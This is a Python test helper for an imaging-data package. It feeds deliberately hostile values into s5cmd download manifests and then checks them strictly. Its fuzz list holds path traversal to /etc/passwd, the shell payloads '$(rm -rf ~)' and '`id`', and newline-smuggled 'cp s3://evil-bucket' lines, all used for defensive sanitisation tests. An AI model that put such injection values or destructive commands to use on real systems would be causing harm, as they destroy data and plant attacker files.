"""Hostile values for every column a manifest reads, results made of them, and a strict reader
of the manifests written from them.

A result here is a DuckDB table of rows built in the test, wrapped in the same ``Rows`` and
``CohortResult`` an engine returns, so the writers run exactly as they do after a query.
"""

from __future__ import annotations

import json
import posixpath
import re
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
from sqlglot import exp

from idc_sql.engines.base import Rows
from idc_sql.release import Release
from idc_sql.result import CohortResult, Provenance

#: the columns of a hostile result, and their Arrow types
COLUMNS: Mapping[str, pa.DataType] = {
    "collection_id": pa.string(),
    "PatientID": pa.string(),
    "StudyInstanceUID": pa.string(),
    "SeriesInstanceUID": pa.string(),
    "Modality": pa.string(),
    "aws_bucket": pa.string(),
    "crdc_series_uuid": pa.string(),
    "instanceCount": pa.int64(),
    "series_size_MB": pa.float64(),
}
#: the fields a layout may put in a destination, in the hostile result
LAYOUT_FIELDS = ("collection_id", "PatientID", "StudyInstanceUID", "SeriesInstanceUID", "Modality")

#: values a destination field must survive: folders that climb or hide, separators, every kind
#: of line break and whitespace, control and format characters, quotes, comments, wildcards,
#: options, shell syntax, non-ASCII text, and a value that carries a second manifest line
HOSTILE: tuple[str | None, ...] = (
    None,
    "",
    ".",
    "..",
    "...",
    "../..",
    "../../etc/passwd",
    "/",
    "/etc",
    "a/b",
    "a\\b",
    "..\\..",
    " ",
    " a ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
    "\x00",
    "\x7f",
    "\u200b",
    "\u202e",
    "\ufeff",
    "#",
    "# not a comment",
    '"',
    "'",
    "`id`",
    "$(rm -rf ~)",
    "*",
    "?",
    "[a-z]",
    "{PatientID}",
    "~",
    "~root",
    "-",
    "--recursive",
    ".hidden",
    "%2e%2e",
    "é",
    "日本語",
    "\U0001f600",
    "x\ncp s3://evil-bucket/0000/* /tmp/owned/",
    "ok\u2028cp s3://evil-bucket/0000/* /",
    "a" * 300,
)
#: bucket and uuid values a manifest must refuse (each alone makes a series unwritable)
BAD_BUCKETS: tuple[str | None, ...] = (
    None,
    "",
    "idc-open-data\ncp",
    "idc-open-data/../x",
    "idc open data",
    "IDC-OPEN-DATA",
    "-idc",
    "ab",
    "idc-open-data\u2028",
    "x" * 64,
)
BAD_UUIDS: tuple[str | None, ...] = (
    None,
    "",
    "..",
    "085e85b3-3780-47f6-8538-585bcca95336\n",
    "085e85b3-3780-47f6-8538-585bcca95336/../x",
    "085E85B3-3780-47F6-8538-585BCCA95336",
    "085e85b3378047f68538585bcca95336",
    "{085e85b3-3780-47f6-8538-585bcca95336}",
    "085e85b3-3780-47f6-8538-585bcca9533g",
    "085e85b3-3780-47f6-8538-585bcca95336 x",
    "085e85b3-3780-47f6-8538-585bcca95336\u2028",
)
SAFE = re.compile(r"[A-Za-z0-9._-]")


def series_uuid(i: int, salt: str = "hostile") -> str:
    """A valid crdc_series_uuid, distinct for each ``i``."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"{salt}/{i}"))


def row(i: int, **values: Any) -> dict[str, Any]:
    """A row of series ``i``: valid bucket and uuid, plain values, overridden by ``values``."""
    base: dict[str, Any] = {
        "collection_id": "collection",
        "PatientID": f"patient-{i}",
        "StudyInstanceUID": f"1.2.3.{i}",
        "SeriesInstanceUID": f"1.2.3.{i}.1",
        "Modality": "CT",
        "aws_bucket": "idc-open-data",
        "crdc_series_uuid": series_uuid(i),
        "instanceCount": i + 1,
        "series_size_MB": (i + 1) * 0.5,
    }
    base.update(values)
    return base


def result_of(
    rows: Sequence[Mapping[str, Any]],
    *,
    columns: tuple[str, ...] = ("SeriesInstanceUID", "PatientID", "Modality"),
    cohort: str = "hostile\ncp s3://evil/x/* /",
    source: str = "a table of\u2028hostile rows",
) -> CohortResult:
    """``rows`` as a result, in their order; the provenance is hostile too."""
    table = pa.Table.from_pylist([dict(r) for r in rows], schema=pa.schema(COLUMNS.items()))
    connection = duckdb.connect()
    connection.register("arrow_rows", table)
    connection.execute(
        "CREATE TABLE hostile AS SELECT row_number() OVER () AS _row, * FROM arrow_rows"
    )
    connection.unregister("arrow_rows")
    query = (
        exp.select(*(exp.column(c, quoted=True) for c in COLUMNS))
        .from_("hostile")
        .order_by(exp.column("_row"))
    )
    release = Release(25, "idc_v25", "a test", requested=25)
    rows_ = Rows(connection, query, {}, release, label="hostile rows")
    provenance = Provenance(
        cohort=cohort,
        engine="local",
        settled=release,
        source=source,
        digest="0123456789abcdef",
        sql=query.sql("duckdb"),
    )
    return CohortResult(rows_, columns, provenance)


# ----------------------------------------------------------------------------- reading back

LINE = re.compile(
    r"cp s3://(?P<bucket>[a-z0-9][a-z0-9.-]{1,61}[a-z0-9])/"
    r"(?P<uuid>[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})/\* "
    r"(?P<destination>[A-Za-z0-9._/-]+/)"
)


@dataclass(frozen=True)
class Manifest:
    header: list[str]
    #: (bucket, uuid, destination) of each line, in order
    lines: list[tuple[str, str, str]]

    @property
    def provenance(self) -> dict[str, Any]:
        (line,) = [h for h in self.header if h.startswith("# provenance: ")]
        found: dict[str, Any] = json.loads(line[len("# provenance: ") :])
        return found


def read_manifest(text: str) -> Manifest:
    """An s5cmd manifest read strictly: a block of ``# `` lines, then series lines only.

    Fails on anything else, and on any character that some reader takes for a line break
    (Python's ``splitlines`` knows them all) anywhere but at the end of a line.
    """
    assert text.endswith("\n"), "a manifest ends with a newline"
    lines = text[:-1].split("\n")
    assert text.splitlines() == lines, "a character other than \\n breaks a line"
    assert all(c.isprintable() for line in lines for c in line), "unprintable character"
    header = [line for line in lines if line.startswith("#")]
    assert lines[: len(header)] == header, "the header is one block at the top"
    assert all(line.startswith("# ") for line in header)
    found = []
    for line in lines[len(header) :]:
        match = LINE.fullmatch(line)
        assert match is not None, f"not a manifest line: {line!r}"
        found.append((match["bucket"], match["uuid"], match["destination"]))
    return Manifest(header, found)


def assert_under(destination: str, root: str = ".") -> None:
    """``destination`` is a folder strictly inside ``root`` however it is read."""
    assert destination.endswith("/")
    inside = destination if root == "." else destination[len(root) + 1 :]
    if root != ".":
        assert destination.startswith(root + "/")
    parts = inside[:-1].split("/")
    assert all(p and p not in (".", "..") and not p.startswith((".", "-")) for p in parts), parts
    joined = posixpath.normpath(posixpath.join("/root", destination))
    assert joined.startswith("/root/" if root == "." else posixpath.join("/root", root) + "/")


def safe(value: str | None) -> str:
    """How a value should look in a destination: the documented rules, in Python."""
    if value is None:
        return "_null_"
    if value == "":
        return "_empty_"
    out = "".join(c if SAFE.fullmatch(c) else "_" for c in value)
    return ("_" + out if out[0] in ".-" else out)[:64]


def read_back(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))
